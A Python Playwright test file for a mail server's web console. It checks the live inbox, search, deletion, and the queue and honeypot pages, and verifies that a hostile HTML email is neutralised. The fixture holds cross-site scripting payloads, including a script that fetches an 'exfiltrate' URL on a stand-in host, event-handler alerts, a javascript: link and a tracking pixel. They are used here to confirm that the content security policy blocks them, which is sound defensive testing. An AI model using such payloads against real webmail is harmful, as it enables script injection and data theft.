"""The web UI in a real browser: Playwright driving Debian's chromium (installed by
scripts/install-test-deps). Mail sent with smtplib appears in the inbox without a
reload, opens, is searched and deleted; a hostile HTML message runs nothing and reaches
nothing; the queue and honeypot pages show their data. Screenshots go to docs/console/ with MAILGATE_UPDATE_SCREENSHOTS=1."""

from __future__ import annotations

import base64
import email.policy
import http.server
import os
import shutil
import smtplib
import tempfile
import threading
import time
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect, sync_playwright
from tests.console.test_api import _record_sessions
from tests.server.harness import ThreadedServer, running_server

from mailgate.console import ConsoleSources
from mailgate.queue import NewMessage, NewRecipient, SQLiteQueueStore
from mailgate.server import ListenAddress

# The page's CSP forbids eval: wait with locators and expect (no wait_for_function).

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
#: Where the screenshots go: docs/console/ when MAILGATE_UPDATE_SCREENSHOTS=1 (to refresh
#: the committed ones), else a folder under the system's temp directory, so that a test run
#: leaves the checkout unchanged (the pixels differ a little from run to run).
SCREENSHOTS = (
    Path(__file__).parents[2] / "docs" / "console"
    if os.environ.get("MAILGATE_UPDATE_SCREENSHOTS") == "1"
    else Path(tempfile.gettempdir()) / "mailgate-console-screenshots"
)
HOSTILE_HTML = (
    '<p id="greeting" onclick="alert(1)">Hello from the attacker</p>'
    "<script>alert(2); fetch('http://192.0.2.1/exfiltrate')</script>"
    '<img src="http://192.0.2.1/pixel.png" onerror="alert(3)">'
    '<a id="link" href="javascript:alert(4)">click</a>'
    '<iframe src="http://192.0.2.1/frame"></iframe>'
)


def _hostile(image_url: str) -> bytes:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@example.org>"
    message["To"] = "victim@example.net"
    message["Subject"] = "Your invoice <script>alert(5)</script>"
    message.set_content("plain part")
    message.add_alternative(
        HOSTILE_HTML + f'<img id="tracker" src="{image_url}" style="width:10px">', subtype="html"
    )
    return message.as_bytes(policy=email.policy.SMTP)


class ImageServer:
    """A web server on 127.0.0.2 (another host than the console's) that records what is
    fetched from it: the "remote" images of a mail."""

    def __init__(self) -> None:
        self.fetched: list[str] = []
        fetched = self.fetched

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                fetched.append(self.path)
                body = base64.b64decode("R0lGODlhAQABAAAAACw=")
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.url = f"http://127.0.0.2:{self.server.server_address[1]}/tracker.gif"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


def _plain(subject: str, sender: str) -> bytes:
    return (
        f"From: {sender}\r\nTo: bob@example.net\r\nSubject: {subject}\r\n\r\nHello there\r\n"
    ).encode()


@pytest.fixture
def browser() -> Iterator[Any]:
    if not Path(CHROMIUM).exists():
        pytest.fail("chromium is missing: run scripts/install-test-deps")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        try:
            yield launched
        finally:
            launched.close()


class Watch:
    """What a page tries outside its origin, and the dialogs it opens. Chromium reports a
    request the CSP blocks as a request that failed with "csp" before reaching the
    network; anything else outside (a response, another failure) is a leak."""

    def __init__(self, page: Any, origin: str) -> None:
        self.origin = origin
        self.blocked: list[str] = []
        self.leaked: list[str] = []
        self.dialogs: list[str] = []
        page.on("requestfailed", self._failed)
        page.on("requestfinished", self._finished)
        page.on("dialog", self._dialog)

    def _outside(self, url: str) -> bool:
        return not url.startswith((self.origin, "about:", "data:"))

    def _failed(self, request: Any) -> None:
        if self._outside(request.url):
            if request.failure == "csp":
                self.blocked.append(request.url)
            else:
                self.leaked.append(f"{request.url} ({request.failure})")

    def _finished(self, request: Any) -> None:
        if self._outside(request.url):
            self.leaked.append(request.url)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()


def test_inbox_live_open_search_delete_and_a_hostile_message(tmp_path: Path, browser: Any) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with running_server(
        tmp_path,
        delivery="capture",
        capture=tmp_path / "captured",
        admin_listen=ListenAddress("127.0.0.1", 0),
    ) as server:
        console = server.server.console  # type: ignore[union-attr]
        assert console is not None
        origin = console.url
        page = browser.new_page(viewport={"width": 1280, "height": 800})
        watch = Watch(page, origin)
        page.goto(origin + "/")
        page.wait_for_selector("#count:has-text('0 messages')")

        with smtplib.SMTP("127.0.0.1", server.port()) as client:
            client.sendmail(
                "alice@example.org",
                ["bob@example.net"],
                _plain("Hello one", "Alice <alice@example.org>"),
            )
            client.sendmail(
                "carol@example.org",
                ["bob@example.net"],
                _plain("Quarterly report", "Carol <carol@example.org>"),
            )
        # No reload: the page notices the new mail by itself.
        page.wait_for_selector("#messages tbody tr:has-text('Quarterly report')", timeout=10_000)
        assert page.locator("#messages tbody tr").count() == 2

        page.locator("#messages tbody tr:has-text('Hello one')").click()
        page.wait_for_selector("#message-subject:has-text('Hello one')")
        page.locator("button.view[data-view='text']").click()
        assert page.locator("#message-text").inner_text().strip() == "Hello there"
        page.screenshot(path=str(SCREENSHOTS / "inbox.png"))

        page.fill("#search", "carol")
        expect(page.locator("#messages tbody tr")).to_have_count(1)
        assert "Quarterly report" in page.locator("#messages tbody tr").inner_text()
        page.fill("#search", "")
        expect(page.locator("#messages tbody tr")).to_have_count(2)

        images = ImageServer()
        with smtplib.SMTP("127.0.0.1", server.port()) as client:
            client.sendmail("mallory@example.org", ["victim@example.net"], _hostile(images.url))
        row = page.locator("#messages tbody tr", has_text="Your invoice")
        row.wait_for(timeout=10_000)
        # The subject's markup is text, not markup.
        assert "<script>alert(5)</script>" in row.inner_text()
        row.click()
        page.locator("button.view[data-view='html']").click()
        frame = page.frame_locator("#message-html")
        frame.locator("#greeting").wait_for()
        assert frame.locator("#greeting").inner_text() == "Hello from the attacker"
        frame.locator("#greeting").click()
        frame.locator("#link").click()
        page.wait_for_timeout(500)
        page.screenshot(path=str(SCREENSHOTS / "hostile-message.png"))
        assert watch.dialogs == []
        # The remote images were asked for and refused by the CSP inside the browser;
        # the script that would fetch never ran, nor did the frame load.
        assert watch.leaked == []
        assert sorted(watch.blocked) == sorted(["http://192.0.2.1/pixel.png", images.url])
        assert images.fetched == []
        # Asked for, the remote images load (and still no script runs).
        page.locator("#load-images").click()
        expect(frame.locator("#tracker")).to_be_visible()
        try:
            for _ in range(50):
                if images.fetched:
                    break
                page.wait_for_timeout(100)
            assert images.fetched == ["/tracker.gif"]
        finally:
            images.close()
        assert watch.dialogs == []

        page.locator("#delete-message").click()
        expect(page.locator("#messages tbody tr")).to_have_count(2)
        assert page.locator("#messages tbody tr", has_text="Your invoice").count() == 0
        page.close()


def _queue_store(server: ThreadedServer, directory: Path) -> SQLiteQueueStore:
    async def open_store() -> SQLiteQueueStore:
        store = await SQLiteQueueStore.open(directory)
        for sender, address in (
            ("alice@example.org", "bob@example.net"),
            ("", "carol@example.com"),
        ):
            domain = address.rpartition("@")[2]
            message = NewMessage(sender, [NewRecipient(address, f"relay:{domain}")])
            await store.enqueue(message, b"Subject: queued\r\n\r\nbody\r\n")
        return store

    store = server.call(open_store)
    assert isinstance(store, SQLiteQueueStore)
    return store


def _record_message(data_dir: Path) -> None:
    """A message as the honeypot records it: a session, its source kept, its analysis."""
    import io

    from mailgate.honeypot.store import CaptureStore
    from mailgate.hooks import Session

    raw_message = b"From: <spam@example.test>\r\nSubject: <i>win</i>\r\n\r\nhttp://x.example/\r\n"
    store = CaptureStore(data_dir, batch_seconds=0.01)
    try:
        session = Session("S9", "203.0.113.5", 40009, "127.0.0.1", 25)
        store.session_opened(session)
        raw = store.save_raw(io.BytesIO(raw_message))
        store.message(
            session,
            message_id="M1",
            ts=time.time(),
            mail_from="spam@example.test",
            rcpt_tos=["victim@example.net"],
            raw=raw,
            subject="<i>win</i>",
            urls=["http://x.example/"],
        )
        store.session_closed(session, "quit")
        assert store.flush()
    finally:
        store.close()


def test_queue_and_honeypot_pages(tmp_path: Path, browser: Any) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    _record_sessions(tmp_path / "honeypot")
    _record_message(tmp_path / "honeypot")
    with running_server(
        tmp_path, delivery="sink", admin_listen=ListenAddress("127.0.0.1", 0)
    ) as server:
        console = server.server.console  # type: ignore[union-attr]
        assert console is not None
        store = _queue_store(server, tmp_path / "queue")
        console.sources = ConsoleSources(queue=store, honeypot_dir=tmp_path / "honeypot")
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 800})
            watch = Watch(page, console.url)
            page.goto(console.url + "/#queue")
            page.wait_for_selector("#queue-table tbody tr:has-text('bob@example.net')")
            assert page.locator("#queue-table tbody tr").count() == 2
            page.locator("#queue-table tbody tr", has_text="bob@example.net").locator(
                "button", has_text="hold"
            ).click()
            page.wait_for_selector("#queue-table tbody tr:has-text('held')")
            page.screenshot(path=str(SCREENSHOTS / "queue.png"))
            held = server.call(lambda: store.list_messages())
            states = {m.recipients[0].address: m.recipients[0].state.value for m in held}  # type: ignore[attr-defined]
            assert states == {"bob@example.net": "held", "carol@example.com": "queued"}

            page.locator(".tab[data-page='honeypot']").click()
            page.wait_for_selector("#honeypot-sessions tbody tr:has-text('192.0.2.7')")
            assert page.locator("#honeypot-sessions tbody tr").count() == 3
            # Sessions over time: one bar per hour, all three sessions in them.
            bars = page.locator("#honeypot-timeline rect")
            expect(bars).to_have_count(25)
            counts = [int(bars.nth(i).get_attribute("data-sessions") or 0) for i in range(25)]
            assert sum(counts) == 3
            message = page.locator("#honeypot-messages tbody tr")
            expect(message).to_have_count(1)
            # The subject's markup is text; the source is a download link of this server.
            assert "<i>win</i>" in message.inner_text()
            assert message.locator("a").get_attribute("href") == "/api/v1/honeypot/messages/M1/raw"
            figures = page.locator("#honeypot-figures").inner_text()
            assert "Sessions\n3" in figures or "Sessions 3" in figures.replace("\n", " ")
            # The user name's escape and right-to-left override are shown as escapes.
            assert "root\\u001b[31m\\u202e (1)" in page.locator("#honeypot-tops").inner_text()
            page.locator("#honeypot-sessions tbody tr", has_text="192.0.2.7").click()
            page.wait_for_selector("#honeypot-transcript:has-text('EHLO scanner<script>')")
            page.screenshot(path=str(SCREENSHOTS / "honeypot.png"))
            assert watch.dialogs == [] and watch.leaked == [] and watch.blocked == []
            page.close()
        finally:
            server.call(store.aclose)
